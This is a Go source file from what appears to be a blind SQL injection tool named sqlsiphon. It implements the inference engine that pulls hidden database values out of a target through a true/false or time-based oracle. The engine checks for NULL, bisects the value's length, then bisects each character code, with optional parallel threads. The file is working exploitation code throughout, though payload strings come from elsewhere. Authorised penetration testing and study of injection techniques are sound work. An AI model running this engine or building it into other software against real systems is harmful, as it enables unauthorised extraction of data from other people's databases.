// Package inference retrieves scalar values through a boolean oracle by
// bisecting their length and then each character code.
package inference

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"
	"sync/atomic"

	"github.com/0x6d61/sqlsiphon/internal/dbms"
)

// DefaultMaxLength caps the length of a retrieved value.
const DefaultMaxLength = 8192

// ErrTooLong is returned when a value is longer than the configured maximum.
var ErrTooLong = errors.New("inference: value exceeds maximum length")

// Evaluator answers whether the condition carried by a parameter value held.
type Evaluator interface {
	Evaluate(ctx context.Context, value string, timeBased bool) (bool, error)
}

// Job describes one scalar retrieval.
type Job struct {
	// Payload turns a predicate into the parameter value sent to the target.
	Payload func(predicate string) string

	Expression string

	// Length is the known length of the value, 0 when unknown.
	Length int

	// Charset is the first table searched for each character; nil means
	// ASCII.
	Charset Charset

	// FirstChar and LastChar are 1-based bounds of the retrieved slice of
	// the value; 0 means from the start and to the end.
	FirstChar int
	LastChar  int

	TimeBased bool
}

// Result is the outcome of a retrieval.
type Result struct {
	Queries int
	Value   string
	Null    bool
}

// Oracle runs retrievals against one back-end.
type Oracle struct {
	eval      Evaluator
	dbms      dbms.DBMS
	dialect   *dbms.Dialect
	threads   int
	maxLength int
	logger    *slog.Logger
}

// Option configures an Oracle.
type Option func(*Oracle)

// WithLogger sets the logger.
func WithLogger(l *slog.Logger) Option {
	return func(o *Oracle) { o.logger = l }
}

// WithThreads retrieves that many characters concurrently.
func WithThreads(n int) Option {
	return func(o *Oracle) {
		if n > 0 {
			o.threads = n
		}
	}
}

// WithMaxLength overrides DefaultMaxLength.
func WithMaxLength(n int) Option {
	return func(o *Oracle) {
		if n > 0 {
			o.maxLength = n
		}
	}
}

// New creates an Oracle asking eval. A nil d falls back to MySQL syntax.
func New(eval Evaluator, d dbms.DBMS, opts ...Option) *Oracle {
	if d == nil {
		d = dbms.Registry("MySQL")
	}
	o := &Oracle{
		eval:      eval,
		dbms:      d,
		dialect:   dbms.LookupDialect(d.Name()),
		threads:   1,
		maxLength: DefaultMaxLength,
	}
	for _, opt := range opts {
		opt(o)
	}
	if o.logger == nil {
		o.logger = slog.New(slog.DiscardHandler)
	}
	return o
}

// retrieval is the state of one Retrieve call.
type retrieval struct {
	o       *Oracle
	job     Job
	text    string
	queries atomic.Int64
}

func (r *retrieval) ask(ctx context.Context, predicate string) (bool, error) {
	r.queries.Add(1)
	return r.o.eval.Evaluate(ctx, r.job.Payload(predicate), r.job.TimeBased)
}

// Retrieve bisects the value of job.Expression.
func (o *Oracle) Retrieve(ctx context.Context, job Job) (Result, error) {
	if job.Payload == nil {
		return Result{}, fmt.Errorf("inference: job has no payload builder")
	}
	if len(job.Charset) == 0 {
		job.Charset = ASCII
	}
	r := &retrieval{
		o:    o,
		job:  job,
		text: o.dialect.CastText("(" + job.Expression + ")"),
	}

	value, null, err := r.run(ctx)
	res := Result{Queries: int(r.queries.Load()), Value: value, Null: null}
	if err != nil {
		return res, err
	}
	o.logger.Debug("value retrieved", "expression", job.Expression, "queries", res.Queries, "null", null)
	return res, nil
}

func (r *retrieval) run(ctx context.Context) (string, bool, error) {
	null, err := r.ask(ctx, fmt.Sprintf("(%s) IS NULL", r.job.Expression))
	if err != nil {
		return "", false, fmt.Errorf("inference: null probe: %w", err)
	}
	if null {
		return "", true, nil
	}

	length := r.job.Length
	if length <= 0 {
		if length, err = r.length(ctx); err != nil {
			return "", false, err
		}
	}

	first, last := 1, length
	if r.job.FirstChar > 1 {
		first = r.job.FirstChar
	}
	if r.job.LastChar > 0 && r.job.LastChar < last {
		last = r.job.LastChar
	}
	if first > last {
		return "", false, nil
	}

	chars := make([]rune, last-first+1)
	if r.o.threads <= 1 || len(chars) == 1 {
		for pos := first; pos <= last; pos++ {
			c, err := r.char(ctx, pos)
			if err != nil {
				return string(chars[:pos-first]), false, err
			}
			chars[pos-first] = c
		}
		return string(chars), false, nil
	}

	if err := r.parallel(ctx, first, last, chars); err != nil {
		return "", false, err
	}
	return string(chars), false, nil
}

// length finds the value length: doubling an upper bound until the length
// no longer exceeds it, then bisecting the last interval.
func (r *retrieval) length(ctx context.Context) (int, error) {
	expr := r.o.dbms.Length(r.text)
	greater := func(n int) (bool, error) {
		ok, err := r.ask(ctx, fmt.Sprintf("%s>%d", expr, n))
		if err != nil {
			return false, fmt.Errorf("inference: length probe: %w", err)
		}
		return ok, nil
	}

	lo, hi := 0, 16
	for {
		ok, err := greater(hi)
		if err != nil {
			return 0, err
		}
		if !ok {
			break
		}
		if hi >= r.o.maxLength {
			return 0, fmt.Errorf("%w (%d)", ErrTooLong, r.o.maxLength)
		}
		lo, hi = hi+1, min(hi*2, r.o.maxLength)
	}
	for lo < hi {
		mid := (lo + hi) / 2
		ok, err := greater(mid)
		if err != nil {
			return 0, err
		}
		if ok {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo, nil
}

// char bisects the code of the character at pos. Codes above the searched
// table move the search to the codes above it.
func (r *retrieval) char(ctx context.Context, pos int) (rune, error) {
	expr := r.o.dbms.ASCII(r.o.dbms.Substring(r.text, pos, 1))
	table := r.job.Charset
	for table != nil {
		lo, hi := 0, len(table)
		for lo < hi {
			mid := (lo + hi) / 2
			ok, err := r.ask(ctx, fmt.Sprintf("%s>%d", expr, table[mid]))
			if err != nil {
				return 0, fmt.Errorf("inference: character %d: %w", pos, err)
			}
			if ok {
				lo = mid + 1
			} else {
				hi = mid
			}
		}
		if lo < len(table) {
			return rune(table[lo]), nil
		}
		table = overflow(table)
	}
	r.o.logger.Warn("character outside every table", "position", pos)
	return '?', nil
}

// joinErrors keeps the first error of a parallel retrieval and counts the
// rest.
func joinErrors(errs []error) error {
	var first error
	n := 0
	for _, err := range errs {
		if err == nil {
			continue
		}
		if first == nil {
			first = err
		}
		n++
	}
	if n > 1 {
		return fmt.Errorf("%w (and %d more)", first, n-1)
	}
	return first
}

func describe(chars []rune) string {
	var b strings.Builder
	for _, c := range chars {
		if c == 0 {
			b.WriteByte('_')
			continue
		}
		b.WriteRune(c)
	}
	return b.String()
}
